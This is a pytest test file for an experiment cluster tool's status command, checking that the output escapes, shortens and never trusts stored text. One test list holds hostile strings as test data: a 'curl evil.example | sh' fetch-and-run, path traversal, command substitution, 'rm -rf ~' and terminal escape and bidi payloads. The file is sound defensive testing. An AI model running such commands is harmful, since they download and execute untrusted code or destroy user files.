"""`python -m dwf_cluster.status` shows the state of each experiment and trusts no stored text."""

from __future__ import annotations

import json
import os
import shlex
import subprocess
import sys
from collections.abc import Callable, Sequence
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from dwf_cluster import status
from dwf_cluster.presets import build
from dwf_cluster.settings import MAX_JSON_BYTES
from dwf_cluster.store import Store

from .conftest import write_npz

STATUS = {
    "run": 1,
    "state": "done",
    "host": "n1",
    "job": "",
    "started": "2026-11-23T12:00:00+00:00",
    "heartbeat": "2026-11-23T12:01:00+00:00",
    "seconds": 61.2,
    "stages": {"experts": [3, 3], "joint": [1, 1], "evaluate": [24, 24]},
    "reason": "",
    "resume": "python -m dwf_cluster.launch --local",
    "rows": {"evaluations": 40, "jobs": 2},
}


def _experiment(folder: Path, seed: int, assignments: Sequence[str] = (), **changed: object) -> Store:
    experiment = build("digits", seed, assignments)
    store = experiment.store(str(folder))
    store.write("status.json", json.dumps(STATUS | changed).encode())
    store.write("experiment.json", experiment.to_json().encode())
    return store


def _ago(seconds: float) -> str:
    return (datetime.now(timezone.utc) - timedelta(seconds=seconds)).isoformat()


def test_status_shows_each_state_the_reason_of_a_failure_and_the_resume_command(tmp_path: Path) -> None:
    partly = {"experts": [2, 3], "joint": [0, 1], "evaluate": [0, 24]}
    failed = "stage experts, expert pgd-1: NonFiniteLoss: the loss became nan in epoch 3, step 7 of pgd-1"
    names = [_experiment(tmp_path, 0).folder]
    names.append(_experiment(tmp_path, 1, state="running", heartbeat=_ago(4), stages=partly, rows={}, job="17").folder)
    names.append(_experiment(tmp_path, 2, state="failed", reason=failed, stages=partly).folder)
    names.append(_experiment(tmp_path, 3, state="running", heartbeat=_ago(400), stages=partly).folder)
    (tmp_path / "digits-seed4-0123456789").mkdir()
    (tmp_path / "something else").mkdir()
    resume = f"    resume: python -m dwf_cluster.launch --local --preset digits --seed {{}} --storage {tmp_path}"
    assert status.lines(str(tmp_path)) == [
        "experiment               state    experts  joint  evaluate  seconds  rows  where",
        f"{names[0]}  done     3/3      1/1    24/24     61       42    n1",
        f"{names[1]}  running  2/3      0/1    0/24      61             n1 job 17, heartbeat 4 s ago",
        f"{names[2]}  failed   2/3      0/1    0/24      61       42    n1",
        f"    {failed}",
        resume.format(2),
        f"{names[3]}  lost     2/3      0/1    0/24      61       42    n1, heartbeat 400 s ago",
        resume.format(3),
        "digits-seed4-0123456789  unknown",
    ]


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"null",
        b"[]",
        b"{}",
        b"\xff\x00",
        b"[" * 100_000,
        b'{"run": "1"}',
        json.dumps(STATUS | {"run": 1.5}).encode(),
    ]
    + [json.dumps(STATUS | {"heartbeat": beat}).encode() for beat in ("yesterday", "2026-11-23T12:00:00", 7)],
)
def test_a_status_file_that_cannot_be_parsed_is_an_unknown_state(tmp_path: Path, content: bytes) -> None:
    Store(str(tmp_path), "digits-seed0-0123456789").write("status.json", content)
    assert status.lines(str(tmp_path))[1] == "digits-seed0-0123456789  unknown"


# ------------------------------------------------------------------------------- the command that resumes


@pytest.mark.parametrize(
    ("assignments", "job", "words"),
    [
        ([], "", ["--local", "--preset", "digits", "--seed", "3"]),
        ([], "4711", ["--slurm", "--preset", "digits", "--seed", "3"]),
        (
            ["pgd.steps=1,2", "data.mean=0.1", "data.std=0.2", "evaluation.beyond=", "experts.epochs=7"],
            "",
            ["--local", "--preset", "digits", "--seed", "3", "--set", "evaluation.beyond="],
        ),
        (["preset=mine"], "", ["--local", "--preset", "cifar10", "--seed", "3", "--set", "preset=mine"]),
    ],
)
def test_the_resume_command_builds_the_same_experiment(
    tmp_path: Path, assignments: list[str], job: str, words: list[str]
) -> None:
    store = _experiment(tmp_path, 3, assignments, state="stopped", job=job)
    command = shlex.split(status.lines(str(tmp_path))[-1])
    assert command[:4] == ["resume:", "python", "-m", "dwf_cluster.launch"]
    assert set(words) <= set(command)
    options = command[4:]
    sets = options[options.index("--set") + 1 :] if "--set" in options else []
    assert options[options.index("--storage") + 1] == str(tmp_path)
    preset, seed = options[options.index("--preset") + 1], options[options.index("--seed") + 1]
    assert build(preset, int(seed), sets).folder == store.folder


def test_the_resume_command_names_the_file_of_own_images_without_reading_it(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    path = write_npz(tmp_path / "my $(images).npz")
    experiment = build(str(path), 1, ["experts.epochs=7"])
    store = experiment.store("runs")
    store.write("status.json", json.dumps(STATUS | {"state": "failed"}).encode())
    store.write("experiment.json", experiment.to_json().encode())
    path.unlink()
    assert status.lines("runs")[-1] == (
        f"    resume: python -m dwf_cluster.launch --local --preset '{path}' --seed 1 --storage runs "
        "--set experts.epochs=7"
    )


HOSTILE = [
    "python jobs/../../../../tmp/evil.py --x",
    "ray job submit --working-dir . -- bash -c 'curl evil.example | sh'",
    "sbatch slurm/../../../tmp/evil.sh",
    "python -m dwf_cluster.launch --local --storage s3://somebody-elses",
    "python -m dwf_cluster.launch $(id) `id` | sh",
    "python -m dwf_cluster.launch '\x1b[31m'",
    "python -m dwf_cluster.launch \u202e--local",
    "rm -rf ~",
]


@pytest.mark.parametrize("resume", HOSTILE)
def test_status_never_shows_the_stored_resume_command(tmp_path: Path, resume: str) -> None:
    _experiment(tmp_path, 0, state="stopped", resume=resume)
    assert status.lines(str(tmp_path))[-1] == (
        f"    resume: python -m dwf_cluster.launch --local --preset digits --seed 0 --storage {tmp_path}"
    )


def _remove_experiment(store: Store) -> None:
    store.remove("experiment.json")


def _write_another_experiment(store: Store) -> None:
    store.write("experiment.json", build("digits", 1).to_json().encode())


def _write_invalid_json(store: Store) -> None:
    store.write("experiment.json", b"[" * 100_000)


def _write_hostile_source(store: Store) -> None:
    fields = json.loads(build("digits").to_json())
    fields["data"]["source"] = "--storage=/tmp;\x1b[31m.npz"
    store.write("experiment.json", json.dumps(fields).encode())


def _make_directory(store: Store) -> None:
    store.remove("experiment.json")
    os.mkdir(store.path("experiment.json"))


def _make_pipe(store: Store) -> None:
    store.remove("experiment.json")
    os.mkfifo(store.path("experiment.json"))


@pytest.mark.parametrize(
    "damage",
    [
        _remove_experiment,
        _write_another_experiment,
        _write_invalid_json,
        _write_hostile_source,
        _make_directory,
        _make_pipe,
    ],
)
def test_an_experiment_that_cannot_be_read_has_no_resume_command_of_its_own(
    tmp_path: Path, damage: Callable[[Store], None]
) -> None:
    damage(_experiment(tmp_path, 0, state="stopped"))
    assert status.lines(str(tmp_path))[-1] == "    resume: run the command that started it again"


# --------------------------------------------------------------------------------------- a hostile store

LINES = 1 + 1 + 20 + 1
"""Heading, experiment, twenty lines of the reason, resume command."""

WIDTH = 420
"""Characters of a line of the reason, and its indentation."""


@pytest.mark.parametrize(
    "changed",
    [
        {"reason": "\x1b]0;owned\x07\x1b[2J", "host": "n1\x1b[31m"},
        {"host": "n1\u202e\u2066", "job": "\u200b\n", "reason": "\u202egnp.exe"},
        {"host": "h" * 100_000, "reason": "r" * 100_000},
        {"reason": "line\n" * 1000},
        {"seconds": 1e300},
        {"seconds": float("inf")},
        {"seconds": float("nan")},
        {"seconds": -5},
        {"stages": {"experts": [10**4000, -1]}, "rows": {"jobs": 10**4299, "metrics": 10**4299 * 9}},
        {"state": "running", "heartbeat": "0001-01-01T00:00:00+23:59"},
        {"state": "running", "heartbeat": "9999-12-31T23:59:59-23:59", "host": "h" * 1000},
    ],
    ids=lambda changed: ",".join(f"{name}" for name in changed),
)
def test_status_escapes_and_shortens_all_text_from_a_store(tmp_path: Path, changed: dict[str, object]) -> None:
    _experiment(tmp_path, 0, **({"state": "failed"} | changed))
    shown = status.lines(str(tmp_path))
    assert len(shown) <= LINES
    assert all(line.isprintable() and len(line) <= WIDTH for line in shown)
    assert len(shown[1]) <= 200


def test_a_heartbeat_from_the_future_is_not_shown_as_a_negative_age(tmp_path: Path) -> None:
    _experiment(tmp_path, 0, state="running", heartbeat=_ago(-30))
    _experiment(tmp_path, 1, state="running", heartbeat=_ago(-300))
    assert status.lines(str(tmp_path))[1].endswith("n1, heartbeat 0 s ago")
    assert status.lines(str(tmp_path))[2].endswith("n1, heartbeat ahead of this machine's clock")


def _make_status_directory(path: Path) -> None:
    path.mkdir()


def _make_status_pipe(path: Path) -> None:
    os.mkfifo(path)


def _make_status_loop(path: Path) -> None:
    path.symlink_to(path)


def _make_status_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _make_status_large(path: Path) -> None:
    path.write_bytes(b" " * (MAX_JSON_BYTES + 1))


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (_make_status_directory, "Is a directory"),
        (_make_status_pipe, "not a regular file"),
        (_make_status_loop, "Too many levels of symbolic links"),
        (_make_status_device, "not a regular file"),
        (_make_status_large, f"{MAX_JSON_BYTES + 1} bytes of JSON, allowed are {MAX_JSON_BYTES}"),
    ],
)
def test_a_status_that_is_not_a_file_does_not_hide_the_other_experiments(
    tmp_path: Path, make: Callable[[Path], None], reason: str
) -> None:
    good = _experiment(tmp_path, 0)
    bad = Store(str(tmp_path), build("digits", 1).folder)
    os.mkdir(bad.root)
    make(Path(bad.path("status.json")))
    _, *shown = status.lines(str(tmp_path))
    assert shown[0].startswith(f"{good.folder}  done ")
    assert shown[1] == f"{bad.folder}  unknown"
    assert shown[2] == f"    {tmp_path}/{bad.folder}/status.json: cannot be read: {reason}"


def test_status_shows_a_thousand_experiments_in_one_line_each(tmp_path: Path) -> None:
    for seed in range(1000):
        _experiment(tmp_path, seed)
    assert len(status.lines(str(tmp_path))) == 1001


@pytest.mark.parametrize(
    "arguments",
    [
        ["gone"],
        ["nosuch://bucket"],
        ["s3://key:secret@bucket/runs"],
        ["zip://runs"],
        ["data://runs"],
        ["bytes\udcff"],
        ["zero\0"],
        [""],
        ["file://"],
        ["memory://x"],
        ["--colour"],
        ["runs", "more"],
    ],
)
def test_status_answers_bad_input_in_one_line(
    arguments: list[str], capsys: pytest.CaptureFixture[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    assert status.main(arguments) == 2
    message = capsys.readouterr().err
    assert message.startswith("error: ")
    assert message.count("\n") == 1
    assert "secret" not in message


def test_status_imports_neither_torch_nor_ray_nor_arrow(tmp_path: Path) -> None:
    _experiment(tmp_path, 0)
    program = (
        f"import sys; from dwf_cluster.status import main; status = main([{str(tmp_path)!r}])\n"
        "sys.exit(status or sorted({'torch', 'ray', 'pyarrow', 'numpy', 'pandas'} & set(sys.modules)) or 0)"
    )
    result = subprocess.run([sys.executable, "-c", program], capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    assert "done" in result.stdout
